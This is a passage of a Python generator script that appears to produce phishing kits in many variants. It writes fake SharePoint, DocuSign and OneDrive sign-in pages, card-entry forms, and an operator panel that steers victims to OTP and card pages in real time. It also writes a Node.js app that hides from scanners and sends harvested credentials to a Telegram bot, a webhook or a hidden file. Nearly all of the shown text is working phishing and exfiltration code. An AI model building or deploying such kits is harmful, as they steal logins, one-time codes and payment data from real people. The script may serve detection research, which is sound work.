<input name="cc" placeholder="<?= $L['cc'] ?>"><input name="exp" placeholder="<?= $L['exp'] ?>"><input name="cvv" placeholder="<?= $L['cvv'] ?>">
<button><?= $L['btn'] ?></button></form></body></html>
""", IP=GET_IP, B=b[0], EX=ex_code(r, ex))
    files = [(main, d + r.choice(("billing.php", "index.php", "update.php")), "php"), (config_php(r, ex), d + "config.php", "php")] + lf
    return kit(files, "multilang-%s" % b[0].split()[0].lower())


# 11 -------------------------------------------------------------------
def doc_share_email_grab(r, v):
    d = kitdir(r)
    lure = ("SharePoint", "Adobe Document Cloud", "DocuSign", "OneDrive")[v]
    ex = ("remote", "telegram", "mail", "file")[v]
    html = T("""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>@LU@ - Shared document</title>
<style>body{font-family:Segoe UI,Arial;background:#f3f2f1}.box{width:360px;margin:80px auto;background:#fff;padding:30px}</style>
</head><body><div class="box">
<p>You have received a secure document: <b>Payment_Advice_@N@.pdf</b></p>
<p>Sign in with your email account to view.</p>
<form id="fm"><input id="ai" type="email" name="ai" readonly><input id="pr" type="password" name="pr" placeholder="Password">
<button id="go">View document</button><div id="msg"></div></form>
</div>
<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>
<script>
var em = window.location.hash.substr(1) || new URLSearchParams(location.search).get('e') || '';
if (!/@/.test(em)) { try { em = atob(em); } catch (x) {} }
$('#ai').val(em);
var n = 0;
$('#go').click(function (e) {
  e.preventDefault();
  n++;
  $.post('@P@', { ai: $('#ai').val(), pr: $('#pr').val(), n: n }, function () {
    if (n > 1) { window.location.replace('https://' + em.split('@')[1]); } else { $('#msg').text('Invalid password. Please try again.'); $('#pr').val(''); }
  });
});
</script></body></html>
""", LU=lure, N=r.randint(1000, 9999), P=r.choice(("post.php", "next.php", "%s.php" % rw(r, 4))))
    pfile = html.split("$.post('")[1].split("'")[0]
    php = T("""<?php
require 'config.php';
@IP@
if (isset($_POST['ai'], $_POST['pr'])) {
    $msg = "@LU@ Result\\nEmail: {$_POST['ai']}\\nPassword: {$_POST['pr']}\\nTry: {$_POST['n']}\\nIP: $ip\\nHost: " . gethostbyaddr($ip);
    @EX@
}
""", IP=GET_IP, LU=lure, EX=ex_code(r, ex))
    return kit([(html, d + "index.html", "html"), (php, d + pfile, "php"), (config_php(r, ex), d + "config.php", "php")],
               "docshare-%s" % lure.split()[0].lower())


# 12 -------------------------------------------------------------------
def live_panel_otp(r, v):
    """Operator polls a session status and pushes the victim to the next page."""
    b = brand(r, ("bank", "crypto"))
    d = kitdir(r)
    store = ("json", "sqlite", "dir")[v % 3]
    if store == "json":
        rd = "$db = json_decode(@file_get_contents(__DIR__ . '/data/v.json'), true) ?: [];"
        wr = "file_put_contents(__DIR__ . '/data/v.json', json_encode($db), LOCK_EX);"
    elif store == "sqlite":
        rd = ("$pdo = new PDO('sqlite:' . __DIR__ . '/data/panel.db');\n$pdo->exec('CREATE TABLE IF NOT EXISTS v (id TEXT PRIMARY KEY, j TEXT)');\n"
              "$db = [];\nforeach ($pdo->query('SELECT id, j FROM v') as $row) { $db[$row['id']] = json_decode($row['j'], true); }")
        wr = ("$st = $pdo->prepare('REPLACE INTO v (id, j) VALUES (?, ?)');\nforeach ($db as $k => $row) { $st->execute([$k, json_encode($row)]); }")
    else:
        rd = "$db = [];\nforeach (glob(__DIR__ . '/data/*.v') as $f) { $db[basename($f, '.v')] = unserialize(file_get_contents($f)); }"
        wr = "foreach ($db as $k => $row) { file_put_contents(__DIR__ . '/data/' . $k . '.v', serialize($row)); }"
    api = T("""<?php
session_start();
header('Content-Type: application/json');
@RD@
$id = session_id();
$a = $_GET['a'] ?? '';
if ($a === 'push') {
    $db[$id]['fields'] = array_merge($db[$id]['fields'] ?? [], $_POST);
    $db[$id]['ip'] = $_SERVER['REMOTE_ADDR'];
    $db[$id]['status'] = 'wait';
    $db[$id]['seen'] = time();
} elseif ($a === 'poll') {
    $db[$id]['seen'] = time();
    echo json_encode(['s' => $db[$id]['status'] ?? 'wait']);
} elseif ($a === 'cmd' && ($_GET['k'] ?? '') === '@K@') {
    $db[$_POST['id']]['status'] = $_POST['s'];
    echo json_encode(['ok' => 1]);
} elseif ($a === 'list' && ($_GET['k'] ?? '') === '@K@') {
    echo json_encode($db);
}
@WR@
""", RD=rd, WR=wr, K=hx(r, 12))
    js = T("""(function () {
  var f = document.getElementById('f1');
  function poll() {
    fetch('api.php?a=poll').then(function (r) { return r.json(); }).then(function (j) {
      if (j.s === 'otp') { location.href = 'otp.html'; }
      else if (j.s === 'card') { location.href = 'card.html'; }
      else if (j.s === 'bad_login') { location.href = 'index.html?e=1'; }
      else if (j.s === 'done') { location.href = 'https://www.example.com/'; }
      else { setTimeout(poll, 2000); }
    });
  }
  f.addEventListener('submit', function (e) {
    e.preventDefault();
    fetch('api.php?a=push', { method: 'POST', body: new FormData(f) }).then(function () {
      document.body.innerHTML = '<div class="spin">@W@</div>';
      poll();
    });
  });
})();
""", W=r.choice(("Please wait...", "Espere por favor...", "Veuillez patienter...", "Bitte warten...")))
    panel = T("""<?php
if (($_GET['k'] ?? '') !== '@K@') { http_response_code(404); exit; }
?>
<!DOCTYPE html><html><head><meta charset="utf-8"><title>panel</title></head><body>
<table id="t"></table>
<script>
setInterval(function () {
  fetch('api.php?a=list&k=@K@').then(r => r.json()).then(function (db) {
    var h = '';
    for (var id in db) {
      h += '<tr><td>' + id + '</td><td>' + JSON.stringify(db[id].fields) + '</td><td>' + db[id].status + '</td><td>' +
        ['otp', 'card', 'bad_login', 'done'].map(s => '<button onclick="go(\\'' + id + '\\',\\'' + s + '\\')">' + s + '</button>').join('') + '</td></tr>';
    }
    document.getElementById('t').innerHTML = h;
  });
}, 3000);
function go(id, s) { var f = new FormData(); f.append('id', id); f.append('s', s); fetch('api.php?a=cmd&k=@K@', { method: 'POST', body: f }); }
</script></body></html>
""", K=api.split("($_GET['k'] ?? '') === '")[1].split("'")[0])
    otp = "<!DOCTYPE html><html><body><form id=\"f1\"><input name=\"otp\"><button>OK</button></form><script src=\"js/live.js\"></script></body></html>\n"
    files = [(login_html(r, b, "#", '<script src="js/live.js"></script>'), d + "index.html", "html"), (js, d + "js/live.js", "js"),
             (api, d + "api.php", "php"), (panel, d + r.choice(("panel.php", "admin/%s.php" % hx(r, 6), "x.php")), "php"),
             (otp, d + "otp.html", "html")]
    return kit(files, "livepanel-%s" % b[0].split()[0].lower())


# 13 -------------------------------------------------------------------
def node_kit(r, v):
    """A Node.js phishing app (shared hosts with Node selector / Passenger)."""
    b = brand(r)
    d = r.choice(("nodeapp/", "app/", "%s/" % rw(r, 6)))
    ex = v % 3
    if ex == 0:
        send = T("""  await fetch(`https://api.telegram.org/bot${process.env.BT || '@T@'}/sendMessage`, {
    method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ chat_id: '@C@', text: JSON.stringify(req.body) + ' ' + ip }),
  });""", T=tok(r), C=chat(r))
    elif ex == 1:
        send = T("""  await fetch('@H@', { method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ content: '**@B@** ' + ip + '\\n' + Object.entries(req.body).map(([k, v]) => k + ': ' + v).join('\\n') }) });""",
                 H=hook(r), B=b[0])
    else:
        send = """  require('fs').appendFileSync(require('path').join(__dirname, '.%s'), JSON.stringify({ ...req.body, ip, t: Date.now() }) + '\\n');""" % hx(r, 6)
    app = T("""const express = require('express');
const path = require('path');
const app = express();
app.set('trust proxy', true);
app.use(express.urlencoded({ extended: false }));
const BAD = /bot|crawl|spider|curl|python|headless|scan/i;
app.use((req, res, next) => (BAD.test(req.get('user-agent') || '') ? res.status(404).send('Not Found') : next()));
app.use(express.static(path.join(__dirname, 'public')));
app.post('/@R@', async (req, res) => {
  const ip = req.ip;
@S@
  res.redirect('https://www.example.com/');
});
app.listen(process.env.PORT || 3000);
""", R=r.choice(("login", "auth/verify", "session")), S=send)
    pub = login_html(r, b, "/" + app.split("app.post('/")[1].split("'")[0])
    pkg = '{\n  "name": "%s",\n  "version": "1.0.0",\n  "main": "app.js",\n  "dependencies": { "express": "^4.18.2" }\n}\n' % rw(r, 6)
    return kit([(app, d + "app.js", "js"), (pub, d + "public/index.html", "html"), (pkg, d + "package.json", "json")],
               "node-%s" % b[0].split()[0].lower())


TECHS = (
    ("bank-login-telegram-otp", bank_login_tg_otp, 4),
    ("html-js-fetch-next", js_fetch_next, 4),
    ("session-steps-card-ssn", session_step_card, 4),
    ("webmail-discord", webmail_discord, 4),
    ("beacon-ws-pixel-exfil", beacon_ws_exfil, 4),
    ("html-attachment-remote-post", html_attachment_remote_post, 3),
    ("geo-ip-gate", geo_gate, 3),
    ("antibot-kit", antibot_kit, 3),
    ("zipped-kit", zipped_kit, 4),
    ("multilang-card", multilang_card, 4),
    ("doc-share-email-grab", doc_share_email_grab, 4),
    ("live-panel-otp", live_panel_otp, 3),
    ("node-phish-app", node_kit, 3),
)
